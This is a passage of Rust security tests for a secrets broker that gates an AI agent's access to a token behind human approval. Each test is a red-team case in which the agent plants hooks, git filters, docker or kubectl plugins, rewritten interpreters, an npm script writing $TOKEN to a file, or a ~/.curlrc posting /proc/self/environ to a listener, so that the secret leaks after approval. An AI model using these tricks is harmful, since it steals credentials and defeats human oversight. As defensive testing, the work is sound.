        format!("#!/bin/sh\n{}cat\n", stealer(&marker)),
    )
    .unwrap();
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "kvfmt rewritten in a 10,002-entry PATH dir ran under the grant (exit {:?})",
        o.status.code()
    );
}

/// The machine's pyenv (`~/.pyenv/libexec`), if any.
fn pyenv_libexec() -> Option<PathBuf> {
    let home = std::env::var_os("HOME")?;
    let l = Path::new(&home).join(".pyenv/libexec");
    l.join("pyenv").is_file().then_some(l)
}

/// pyenv's installed versions are pinned as the listing of `$PYENV_ROOT/versions` (one level:
/// `toolchain-dir` has depth 0), though the docs say "each one's bin and lib entries". The
/// interpreter a shim runs, `versions/V/bin/python3` (a file the user owns: pyenv builds it in
/// HOME), rewritten in place after approval, runs under the grant. (The version here is a
/// small wrapper of the agent's around the system python: the machine's own install is never
/// touched.)
///
/// Gap: `loaders::MANAGERS` `code: ["versions"]` + `path_dirs::depth_for`. Fix: pin each
/// selected version's `bin` (and the interpreter's stdlib and site directories) by fingerprint,
/// not the `versions` listing.
#[test]
fn a_pyenv_interpreter_rewritten_in_place_never_runs() {
    let Some(libexec) = pyenv_libexec() else {
        return;
    };
    if !have("/usr/bin/python3") {
        return;
    }
    let (a, tok, app) = setup(&[".pyenv/shims"], "python3 -c 'print(\"py-\" + \"ok\")'\n");
    let h = &a.h;
    let root = a.path().join(".pyenv");
    std::fs::create_dir_all(root.join("shims")).unwrap();
    std::fs::create_dir_all(root.join("versions/kv/bin")).unwrap();
    std::os::unix::fs::symlink(&libexec, root.join("libexec")).unwrap();
    std::fs::write(root.join("version"), "kv\n").unwrap();
    let py = root.join("versions/kv/bin/python3");
    exe(&py, "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n");
    exe(
        &root.join("shims/python3"),
        &format!(
            "#!/usr/bin/env bash\nset -e\nprogram=\"${{0##*/}}\"\nexport PYENV_ROOT=\"{r}\"\nexec \"{r}/libexec/pyenv\" exec \"$program\" \"$@\"\n",
            r = root.display()
        ),
    );
    let cmd = ["sh", "ci.sh"];
    let card = approve_standing(&a, &app, &cmd);
    assert!(card.contains("(toolchain-dir)"), "{card}");
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("py-ok"), "{}", text(&o.stdout));

    let marker = a.path().join("stolen-pyenv-bin");
    std::fs::write(
        &py,
        format!(
            "#!/bin/sh\n{}exec /usr/bin/python3 \"$@\"\n",
            stealer(&marker)
        ),
    )
    .unwrap();
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "versions/kv/bin/python3 rewritten in place ran under the grant (exit {:?})",
        o.status.code()
    );
}

// ---------------------------------------------------------------------------------------------
// Controls: the same attacks without the trick are blocked (regression tests)

/// Control for `a_hook_beyond_the_pin_cap_never_runs_under_a_git_grant`: without decoys, a
/// post-commit hook created after approval is a new input and ends the grant.
#[test]
fn a_hook_created_after_approval_ends_a_git_commit_grant() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    git(&app, a.path(), &["init", "-q"]);
    git(&app, a.path(), &["config", "user.name", "kv"]);
    git(
        &app,
        a.path(),
        &["config", "user.email", "kv@example.invalid"],
    );
    let cmd = ["git", "commit", "-q", "--allow-empty", "-m", "wip"];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let marker = a.path().join("stolen-hook-control");
    exe(
        &app.join(".git/hooks/post-commit"),
        &format!("#!/bin/sh\n{}", stealer(&marker)),
    );
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(!stolen(&marker, &tok), "the planted hook ran");
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("post-commit"),
        "{}",
        text(&o.stderr)
    );
}

/// Control for `an_empty_dot_git_in_cwd_never_hides_the_real_repositorys_config`: run from the
/// subdirectory without the decoy `.git`, the repository's config is pinned and a filter added
/// after approval ends the grant.
#[test]
fn a_filter_added_to_the_repository_config_ends_a_git_status_grant_from_a_subdirectory() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    let sub = app.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    git(&app, a.path(), &["init", "-q"]);
    std::fs::write(sub.join("f.txt"), "one\n").unwrap();
    git(&app, a.path(), &["add", "."]);
    git(&app, a.path(), &["commit", "-qm", "i"]);
    let cmd = ["git", "status", "--short"];
    let card = approve_standing(&a, &sub, &cmd);
    assert!(card.contains(".git/config (git-config)"), "{card}");
    let marker = a.path().join("stolen-git-control");
    let filter = a.path().join("filter.sh");
    exe(
        &filter,
        &format!("#!/bin/sh\n{}exec cat\n", stealer(&marker)),
    );
    let cfg = app.join(".git/config");
    let mut t = std::fs::read_to_string(&cfg).unwrap();
    t.push_str(&format!(
        "[filter \"kv\"]\n\tclean = {}\n",
        filter.display()
    ));
    std::fs::write(&cfg, t).unwrap();
    std::fs::write(app.join(".gitattributes"), "* filter=kv\n").unwrap();
    std::fs::write(sub.join("f.txt"), "two\n").unwrap();
    let o = run(h, &sub, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(!stolen(&marker, &tok), "the planted filter ran");
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
}

// ---------------------------------------------------------------------------------------------
// 6. Tools outside the loader table whose configuration in HOME runs code

/// A vault whose granted children get `HOME` = `<agent dir>/home` (as on a workstation: the
/// user's home, which the agent can write, is not the keyveil home), a value `TOKEN`, and an
/// `app` directory.
fn setup_home() -> (Home, tempfile::TempDir, String, PathBuf, PathBuf) {
    let h = Home::empty();
    let dir = tempfile::Builder::new()
        .prefix("kvagent")
        .tempdir_in("/tmp")
        .unwrap();
    let home = dir.path().join("home");
    let app = dir.path().join("app");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::create_dir_all(&app).unwrap();
    let mut c = h.cmd(&["init", "--passphrase-stdin", "--kdf-memory-kib", "19456"]);
    c.env("HOME", &home)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = c.spawn().unwrap();
    {
        use std::io::Write;
        let mut i = child.stdin.take().unwrap();
        i.write_all(format!("{PASS}\n").as_bytes()).unwrap();
    }
    let o = wait_output(child, CLI_LIMIT);
    assert!(o.status.success(), "init: {}", text(&o.stderr));
    h.ok(&["env", "create", "demo", "--description", "test env"]);
    let tok = crate::pathdirs::token();
    h.set("demo", "TOKEN", &tok);
    (h, dir, tok, home, app)
}

/// Runs `cmd` in `app` once, approved with the passphrase (one approval), within `limit`.
fn run_once(h: &Home, app: &Path, cmd: &[&str], limit: Duration) -> (String, Output) {
    let cwd = app.to_string_lossy().into_owned();
    let mut args = vec!["run", "--cwd", &cwd, "--env", "demo", "--wait", "30", "--"];
    args.extend_from_slice(cmd);
    let child = h.spawn_run(&args);
    let id = h.wait_request();
    let card = h.ok(&["requests"]);
    assert!(h.approve(id, &[]).status.success());
    (card, wait_output(child, limit))
}

/// `docker compose version` (or `docker compose up`, `docker buildx build` with build secrets
/// from the environment): the docker CLI runs its plugins from `~/.docker/cli-plugins` before
/// the system's, and runs each with the whole environment (first for `docker-cli-plugin-
/// metadata`). A `docker-compose` planted there gets the value with one approval of a card that
/// shows `docker compose version` and no input.
///
/// Gap: `loaders::TABLE` has no docker row. Fix: add docker (`~/.docker/config.json`:
/// `credsStore`, `credHelpers`, `cliPluginsExtraDirs`, `proxies`; `~/.docker/cli-plugins`, the
/// system plugin dirs; `DOCKER_CONFIG`, `DOCKER_HOST` never pass) and pin them.
#[test]
fn a_docker_cli_plugin_in_home_never_runs_under_a_grant() {
    if !have("/usr/local/bin/docker") && !have("/usr/bin/docker") {
        return;
    }
    let (h, dir, tok, home, app) = setup_home();
    let plugins = home.join(".docker/cli-plugins");
    std::fs::create_dir_all(&plugins).unwrap();
    let marker = dir.path().join("stolen-docker");
    exe(
        &plugins.join("docker-compose"),
        &format!(
            "#!/bin/sh\n{}if [ \"$1\" = docker-cli-plugin-metadata ]; then echo '{{\"SchemaVersion\":\"0.1.0\",\"Vendor\":\"x\",\"Version\":\"v2\"}}'; exit 0; fi\necho 'Docker Compose version v2'\n",
            stealer(&marker)
        ),
    );
    let (card, o) = run_once(&h, &app, &["docker", "compose", "version"], CLI_LIMIT);
    no_value_in(&o, &tok);
    // Secure: the plugin is pinned and named on the card (what the one approval is of), or it
    // never runs.
    let shown = card.contains(".docker/cli-plugins/docker-compose");
    assert!(
        shown || !stolen(&marker, &tok),
        "~/.docker/cli-plugins/docker-compose ran with the value (plugin on the card: {}; exit {:?})",
        card.contains("cli-plugins"),
        o.status.code()
    );
}

/// `kubectl get pods`: kubectl reads `~/.kube/config`, whose `users[].user.exec.command` (a
/// credential plugin) it runs with its whole environment before the first request. One approval
/// of `kubectl get pods` (card: no input) hands the value to the agent's program.
///
/// Gap: no kubectl row in `loaders::TABLE` (nor `~/.aws/config` `credential_process`, the
/// same class). Fix: pin `$HOME/.kube/config` (`KUBECONFIG` never passes), quote `exec.command`
/// and `auth-provider` on the card.
#[test]
fn a_kubeconfig_exec_plugin_never_runs_under_a_grant() {
    if !have("/usr/bin/kubectl") && !have("/usr/local/bin/kubectl") {
        return;
    }
    let (h, dir, tok, home, app) = setup_home();
    let marker = dir.path().join("stolen-kube");
    let steal = dir.path().join("steal.sh");
    exe(
        &steal,
        &format!(
            "#!/bin/sh\n{}echo '{{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"x\"}}}}'\n",
            stealer(&marker)
        ),
    );
    std::fs::create_dir_all(home.join(".kube")).unwrap();
    std::fs::write(
        home.join(".kube/config"),
        format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- cluster: {{server: \"https://127.0.0.1:1\"}}\n  name: c\ncontexts:\n- context: {{cluster: c, user: u}}\n  name: x\ncurrent-context: x\nusers:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: {}\n      interactiveMode: Never\n",
            steal.display()
        ),
    )
    .unwrap();
    let (card, o) = run_once(
        &h,
        &app,
        &["kubectl", "get", "pods", "--request-timeout=5s"],
        CLI_LIMIT,
    );
    no_value_in(&o, &tok);
    // Secure: the exec plugin is quoted on the card (the file pinned), or it never runs.
    let shown = card.contains(&format!("command: {}", steal.display()));
    assert!(
        shown || !stolen(&marker, &tok),
        "the kubeconfig exec plugin ran with the value (kube config on the card: {}; exit {:?})",
        card.contains(".kube/config"),
        o.status.code()
    );
}

/// `curl -fsS http://127.0.0.1:9/health`: curl reads `~/.curlrc`. Two lines there
/// (`proxy = http://127.0.0.1:AGENT` and `data-binary = "@/proc/self/environ"`) send curl's
/// whole environment, the value included, to the agent's listener, with one approval of a card
/// that shows only the health URL.
///
/// Gap: no curl (nor wget: `~/.wgetrc`, nor ssh: `~/.ssh/config` `ProxyCommand`/`Match exec`)
/// row in `loaders::TABLE`. Fix: neutralise (`CURL_HOME` pointing at an empty directory,
/// `-q` is argv only; wget `WGETRC=/dev/null`) or pin `~/.curlrc`, `$XDG_CONFIG_HOME/.curlrc`,
/// `~/.wgetrc`, `~/.ssh/config` and its `Include`s.
#[test]
fn a_curlrc_never_sends_the_environment_to_the_agent() {
    if !have("/usr/bin/curl") {
        return;
    }
    let (h, _dir, tok, home, app) = setup_home();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel::<Vec<u8>>();
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        if let Ok((mut s, _)) = listener.accept() {
            let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
            let mut got = Vec::new();
            let mut buf = [0u8; 4096];
            while let Ok(n) = s.read(&mut buf) {
                if n == 0 {
                    break;
                }
                got.extend_from_slice(&buf[..n]);
                if got.len() > 64 * 1024 {
                    break;
                }
            }
            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
            let _ = tx.send(got);
        }
    });
    std::fs::write(
        home.join(".curlrc"),
        format!("proxy = \"http://127.0.0.1:{port}\"\ndata-binary = \"@/proc/self/environ\"\n"),
    )
    .unwrap();
    let (card, o) = run_once(
        &h,
        &app,
        &[
            "curl",
            "-fsS",
            "--max-time",
            "8",
            "http://127.0.0.1:9/health",
        ],
        CLI_LIMIT,
    );
    no_value_in(&o, &tok);
    let got = rx.recv_timeout(Duration::from_secs(10)).unwrap_or_default();
    // Secure: ~/.curlrc is pinned and its options quoted on the card, or nothing leaks.
    let shown = card.contains(".curlrc") && card.contains("data-binary");
    assert!(
        shown || !contains(&got, &tok),
        "the agent's listener received the value through ~/.curlrc (exit {:?})",
        o.status.code()
    );
}

// ---------------------------------------------------------------------------------------------
// 7. What is taken for the script operand

/// Shared body: approve `cmd` (which runs `ci.sh` from `app`) as a standing grant, check it
/// runs, rewrite `ci.sh`, run again; returns whether the rewrite ran with the value.
fn rewrite_after_approval(cmd: &[&str]) -> (bool, Option<i32>) {
    let (a, tok, app) = setup(&[], "echo approved-step\n");
    let h = &a.h;
    let _ = approve_standing(&a, &app, cmd);
    let o = run(h, &app, "30", cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("approved-step"));
    let marker = a.path().join("stolen-operand");
    std::fs::write(
        app.join("ci.sh"),
        format!("{}echo approved-step\n", stealer(&marker)),
    )
    .unwrap();
    let o = run(h, &app, "0", cmd);
    no_value_in(&o, &tok);
    (stolen(&marker, &tok), o.status.code())
}

/// `timeout 300 sh ci.sh` (or `nice`, `nohup`, `env`, `stdbuf -oL`, `time`, `xvfb-run`): the
/// executable is the wrapper, so the family is `timeout` and no script operand, interpreter or
/// tool input is pinned at all. The script rewritten after approval runs under the standing grant.
///
/// Gap: `pin::inputs` (and `loaders::inputs`) look at `argv[0]` only. Fix: see through known
/// wrappers (`timeout [opts] DURATION`, `nice [-n N]`, `nohup`, `env [NAME=V]...`, `stdbuf`,
/// `time`, `setsid`, `xargs`?) and derive inputs for the command they run.
#[test]
fn a_script_run_through_a_wrapper_is_still_pinned() {
    let (leaked, code) = rewrite_after_approval(&["timeout", "60", "sh", "ci.sh"]);
    assert!(
        !leaked,
        "ci.sh rewritten after approval ran under the `timeout 60 sh ci.sh` grant (exit {code:?})"
    );
}

/// `bash -o pipefail ci.sh` (also `python3 -W error check.py`, `python3 -X dev app.py`,
/// `perl -I lib t.pl`, `ruby -I lib x.rb`): the option's argument is taken for the script
/// operand (`pipefail`, absent, so nothing is pinned) and the real script is never pinned.
///
/// Gap: `pin::inputs`, the operand loop skips `-x` tokens but not their arguments. Fix: a
/// per-interpreter table of options that take an argument (bash `-o`/`-O`/`+o`, python `-W`/`-X`/
/// `-m`, perl/ruby `-I`/`-r`, node `-r`/`--require`/`--import`/`--loader`), and pin every operand
/// candidate when unsure.
#[test]
fn a_script_after_an_option_with_an_argument_is_still_pinned() {
    let (leaked, code) = rewrite_after_approval(&["bash", "-o", "pipefail", "ci.sh"]);
    assert!(
        !leaked,
        "ci.sh rewritten after approval ran under the `bash -o pipefail ci.sh` grant (exit {code:?})"
    );
}

/// More of finding 9's class: other wrappers (`nice -n`, `env NAME=V`, `stdbuf` around
/// `timeout -s`), and option clusters with arguments (`bash -eo pipefail`, `bash +O extglob`).
#[test]
fn scripts_behind_other_wrappers_and_option_arguments_are_pinned() {
    for cmd in [
        &["nice", "-n", "5", "sh", "ci.sh"][..],
        &["env", "CI=1", "sh", "ci.sh"],
        &[
            "stdbuf", "-oL", "timeout", "-s", "KILL", "60", "bash", "ci.sh",
        ],
        &["bash", "-eo", "pipefail", "+O", "extglob", "ci.sh"],
    ] {
        let (leaked, code) = rewrite_after_approval(cmd);
        assert!(!leaked, "ci.sh rewritten after approval ran under {cmd:?}");
        assert_eq!(code, Some(3), "{cmd:?}");
    }
}

/// A wrapper that changes what runs by itself is refused, never pinned halfway: `env` setting a
/// variable that runs code, `env -S` (splits a string into the command), an option keyveil
/// does not know, `xargs` feeding an interpreter its script.
#[test]
fn wrappers_keyveil_cannot_follow_are_refused() {
    let (a, _tok, app) = setup(&[], "echo ci\n");
    let h = &a.h;
    for cmd in [
        &["env", "BASH_ENV=/tmp/x", "sh", "ci.sh"][..],
        &["env", "-S", "sh ci.sh"],
        &["timeout", "--no-such-option", "5", "sh", "ci.sh"],
        &["xargs", "sh"],
    ] {
        let o = run(h, &app, "0", cmd);
        let err = text(&o.stderr);
        assert!(
            o.status.code() != Some(0) && o.status.code() != Some(5),
            "{cmd:?} was not refused (exit {:?}): {err}",
            o.status.code()
        );
        assert!(
            err.contains("cannot pin") && err.contains("hint:"),
            "{cmd:?}: {err}"
        );
    }
}

/// Finding 3, what is fixed: a script written during a run (and put back before it ends) ends
/// the grant when the run ends (its ctime moved), so the next run asks the human.
#[test]
fn a_script_rewritten_during_a_run_ends_the_grant() {
    let original = "sleep 2\necho approved-step\n";
    let (a, _tok, app) = setup(&[], original);
    let h = &a.h;
    let cmd = ["bash", "ci.sh"];
    let _ = approve_standing(&a, &app, &cmd);
    let cwd = app.to_string_lossy().into_owned();
    let child = h.spawn_run(&[
        "run", "--cwd", &cwd, "--env", "demo", "--wait", "5", "--", "bash", "ci.sh",
    ]);
    std::thread::sleep(Duration::from_millis(700));
    std::fs::write(app.join("ci.sh"), "sleep 2\necho other\n").unwrap();
    std::fs::write(app.join("ci.sh"), original).unwrap();
    let o = wait_output(child, Duration::from_secs(60));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let again = run(h, &app, "0", &cmd);
    assert_eq!(
        again.status.code(),
        Some(5),
        "the grant survived a script written during its run: {}",
        text(&again.stderr)
    );
    let log = h.ok(&["audit", "--limit", "50"]);
    assert!(
        log.contains("during the run") || log.contains("pin_mismatch"),
        "{log}"
    );
}

/// Control: `sh ci.sh` itself is pinned, and the same rewrite ends the grant.
#[test]
fn a_script_rewritten_after_approval_ends_a_plain_interpreter_grant() {
    let (leaked, code) = rewrite_after_approval(&["sh", "ci.sh"]);
    assert!(!leaked, "the rewritten ci.sh ran");
    assert_eq!(code, Some(3));
}

/// `npm test` with a `package.json` that starts with a byte order mark: npm strips it and runs
/// the script; keyveil's `serde_json` refuses the text, so the card says `script "test" is not
/// defined in package.json` while the script runs with the value at the first, single approval.
///
/// Gap: `pin::inputs` (package.json detail). Fix: strip a UTF-8 BOM as npm does, and when
/// the file cannot be parsed say so on the card ("package.json cannot be read: npm may still run
/// it"), never "not defined".
#[test]
fn a_package_json_with_a_bom_never_hides_its_script_from_the_card() {
    if !have("/usr/bin/npm") {
        return;
    }
    let (h, dir, tok, _home, app) = setup_home();
    let marker = dir.path().join("stolen-bom");
    let script = format!("printf %s \\\"$TOKEN\\\" > '{}'", marker.display());
    std::fs::write(
        app.join("package.json"),
        format!(
            "\u{feff}{{\"name\":\"kvrt\",\"version\":\"1.0.0\",\"scripts\":{{\"test\":\"{script}\"}}}}"
        ),
    )
    .unwrap();
    let (card, o) = run_once(&h, &app, &["npm", "test"], CLI_LIMIT);
    no_value_in(&o, &tok);
    let shown = card.contains("printf");
    assert!(
        shown || !stolen(&marker, &tok),
        "npm ran a script the card did not show (card says not defined: {}; exit {:?})",
        card.contains("is not defined"),
        o.status.code()
    );
}

// ---------------------------------------------------------------------------------------------
// 8. Auto-approve rules bind no inputs

/// An auto-approve rule for `git status --short` in the project (the human's factor made it,
/// trusting git's read-only status). The rule is argv + cwd only: each request it covers is
/// granted with whatever inputs it has at that moment. The agent plants a clean filter in
/// `.git/config` (and `.gitattributes`) and runs `git status --short`: no card, no approval, and
/// the filter runs with the value. The same holds for a rule's subdirectories (a `Makefile` of
/// the agent's in `proj/sub` under a `make test` rule for `proj`).
///
/// Gap: `broker/access/` (`auto_hit`: `rule_matches` + cwd prefix) and `factor_ops.rs`
/// (`AutoApproveAdd` stores no pins). Fix: bind the inputs pinned when the rule is made (a rule
/// covers a request only while its inputs equal those), or never auto-approve a request whose
/// inputs carry code-running settings (`runs or redirects: ...` details, hooks) or are new.
#[test]
fn an_auto_approve_rule_never_covers_config_planted_after_it_was_made() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    git(&app, a.path(), &["init", "-q"]);
    std::fs::write(app.join("f.txt"), "one\n").unwrap();
    git(&app, a.path(), &["add", "."]);
    git(&app, a.path(), &["commit", "-qm", "i"]);
    let cwd = app.display().to_string();
    let o = h.run_stdin(
        &[
            "policy",
            "set",
            "demo",
            "auto-approve",
            "--cwd",
            &cwd,
            "--ttl",
            "8h",
            "--passphrase-stdin",
            "--",
            "git",
            "status",
            "--short",
        ],
        &format!("{PASS}\n"),
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    let cmd = ["git", "status", "--short"];
    let o = run(h, &app, "5", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));

    let marker = a.path().join("stolen-auto");
    let filter = a.path().join("filter.sh");
    exe(
        &filter,
        &format!("#!/bin/sh\n{}exec cat\n", stealer(&marker)),
    );
    let cfg = app.join(".git/config");
    let mut t = std::fs::read_to_string(&cfg).unwrap();
    t.push_str(&format!(
        "[filter \"kv\"]\n\tclean = {}\n",
        filter.display()
    ));
    std::fs::write(&cfg, t).unwrap();
    std::fs::write(app.join(".gitattributes"), "* filter=kv\n").unwrap();
    std::fs::write(app.join("f.txt"), "two\n").unwrap();
    // The live grant sees the change and ends ("call run again to ask the user"); the agent
    // calls run again, and the rule grants the new request at once.
    let o = run(h, &app, "0", &cmd);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "the auto-approve rule granted `git status --short` with a planted clean filter, which ran (exit {:?})",
        o.status.code()
    );
}

/// More of finding 1's class: a rule for `sh ci.sh` binds the script as it was when the rule
/// was made; after a rewrite the rule approves nothing, the human is asked, and the card says
/// why (`changed-since-rule`).
#[test]
fn an_auto_approve_rule_never_covers_a_script_changed_after_it_was_made() {
    let (a, tok, app) = setup(&[], "echo approved-step\n");
    let h = &a.h;
    let cwd = app.display().to_string();
    let o = h.run_stdin(
        &[
            "policy",
            "set",
            "demo",
            "auto-approve",
            "--cwd",
            &cwd,
            "--ttl",
            "8h",
            "--passphrase-stdin",
            "--",
            "sh",
            "ci.sh",
        ],
        &format!("{PASS}\n"),
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    let cmd = ["sh", "ci.sh"];
    let o = run(h, &app, "5", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("approved-step"));
    let marker = a.path().join("stolen-auto-script");
    std::fs::write(
        app.join("ci.sh"),
        format!("{}echo approved-step\n", stealer(&marker)),
    )
    .unwrap();
    let o = run(h, &app, "0", &cmd);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert_eq!(o.status.code(), Some(5), "{}", text(&o.stderr));
    assert!(!stolen(&marker, &tok));
    let card = h.ok(&["requests"]);
    assert!(card.contains("changed-since-rule"), "{card}");
}

/// Removes a file when dropped (a test that must write outside its temporary directory).
struct RemoveOnDrop(PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// `[include] path = ~USER/.gitinc` (git expands `~user/` to that user's home, config.c
/// `interpret_path`/`expand_user_path`): keyveil only knows `~/` and takes the rest as relative
/// to the config's directory, so it pins nothing for this include (the card quotes the
/// `include.path` line, which looks like a dotfile of the user's). The included file rewritten
/// after approval (a clean filter) runs under the standing `git status --short` grant.
///
/// Gap: `loaders::expand` (also `%(prefix)/`, and `gitdir:`-relative forms of `includeIf`
/// conditions are ignored only where harmless). Fix: expand `~user/` with the user database and
/// `%(prefix)/` with git's runtime prefix as git does; an include keyveil cannot resolve makes
/// the request unpinnable (refuse standing grants, say so on the card).
#[test]
fn a_git_include_named_with_tilde_user_is_pinned() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let user = std::process::Command::new("id")
        .arg("-un")
        .output()
        .map(|o| text(&o.stdout).trim().to_owned())
        .unwrap_or_default();
    let real_home = std::process::Command::new("getent")
        .args(["passwd", &user])
        .output()
        .ok()
        .and_then(|o| text(&o.stdout).trim().split(':').nth(5).map(PathBuf::from));
    let Some(real_home) = real_home.filter(|p| p.is_dir()) else {
        return;
    };
    let name = format!(
        ".kvrt3-{}-{}.gitinc",
        std::process::id(),
        crate::pathdirs::token()
    );
    let inc = real_home.join(&name);
    if std::fs::write(&inc, "[user]\n\tname = kv\n").is_err() {
        return;
    }
    let _guard = RemoveOnDrop(inc.clone());
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    git(&app, a.path(), &["init", "-q"]);
    std::fs::write(app.join("f.txt"), "one\n").unwrap();
    git(&app, a.path(), &["add", "."]);
    git(&app, a.path(), &["commit", "-qm", "i"]);
    let cfg = app.join(".git/config");
    let mut t = std::fs::read_to_string(&cfg).unwrap();
    t.push_str(&format!("[include]\n\tpath = ~{user}/{name}\n"));
    std::fs::write(&cfg, t).unwrap();
    std::fs::write(app.join(".gitattributes"), "* filter=kv\n").unwrap();
    let cmd = ["git", "status", "--short"];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));

    let marker = a.path().join("stolen-tilde");
    let filter = a.path().join("filter.sh");
    exe(
        &filter,
        &format!("#!/bin/sh\n{}exec cat\n", stealer(&marker)),
    );
    std::fs::write(
        &inc,
        format!("[filter \"kv\"]\n\tclean = {}\n", filter.display()),
    )
    .unwrap();
    std::fs::write(app.join("f.txt"), "two\n").unwrap();
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "the ~{user}/ include rewritten after approval ran a filter under the grant (exit {:?})",
        o.status.code()
    );
}

// ---------------------------------------------------------------------------------------------
// 9. Directories the broker cannot list

/// A writable PATH directory made search-only (`chmod 0111`, the agent's own directory): the
/// kernel still finds `dir/tr` for `execve`, but the broker's `read_dir` fails, so
/// `path_dirs::fingerprint` returns `None` and `path_pins` silently pins nothing (the card does
/// not even name the directory). The agent plants `tr` (chmod u+w, write, chmod back) and it
/// runs under the standing grant. The same fail-open holds for a git hooks directory
/// (`loaders::pin_dir` returns on a `read_dir` error).
///
/// Root reads any directory, so the test only shows the leak for a non-root user (it returns
/// early under root). Reproduced as `nobody`: `setpriv --reuid=65534 --regid=65534
/// --clear-groups env -i PATH=/usr/bin:/bin HOME=/tmp target/debug/deps/it-* redteam3::a_search
/// --include-ignored`.
///
/// Gap: `path_dirs::fingerprint` (`read_dir(..).ok()?`), `path_pins`, `loaders::pin_dir`.
/// Fix: a directory that cannot be listed is pinned as "unlistable" with its own identity
/// (ctime), or the request is refused with a hint; never dropped.
#[test]
fn a_search_only_path_dir_is_still_pinned() {
    let uid = std::process::Command::new("id")
        .arg("-u")
        .output()
        .map(|o| text(&o.stdout).trim().to_owned())
        .unwrap_or_default();
    if uid == "0" {
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let (a, tok, app) = setup(&["xbin"], "echo abc | tr a-z A-Z\n");
    let h = &a.h;
    let bin = a.path().join("xbin");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o111)).unwrap();
    let cmd = ["sh", "ci.sh"];
    let card = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let marker = a.path().join("stolen-xonly");
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o711)).unwrap();
    exe(
        &bin.join("tr"),
        &format!("#!/bin/sh\n{}exec /usr/bin/tr \"$@\"\n", stealer(&marker)),
    );
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o111)).unwrap();
    let o = run(h, &app, "0", &cmd);
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "tr planted in a search-only PATH dir ran under the grant (dir on the card: {}; exit {:?})",
        card.contains("xbin"),
        o.status.code()
    );
}

// ---------------------------------------------------------------------------------------------
// 10. More of the same classes

/// A submodule added from a repository already in the work tree keeps its own `.git`
/// directory (`git submodule add ./sub sub`: "Adding existing repo"), not one under
/// `.git/modules`. `git status` recurses into it and runs the clean filter of `sub/.git/config`;
/// keyveil pins submodules' configs only under `.git/modules` (`loaders::git_submodules`).
///
/// Fix: walk the submodules git would walk (gitlinks in the index, `.gitmodules` paths) and pin
/// each one's gitdir, wherever it lives (`sub/.git` directory or file).
#[test]
fn a_non_absorbed_submodules_config_is_pinned() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    git(&app, a.path(), &["init", "-q"]);
    git(
        &app,
        a.path(),
        &["commit", "-q", "--allow-empty", "-m", "i"],
    );
    let sub = app.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    git(&sub, a.path(), &["init", "-q"]);
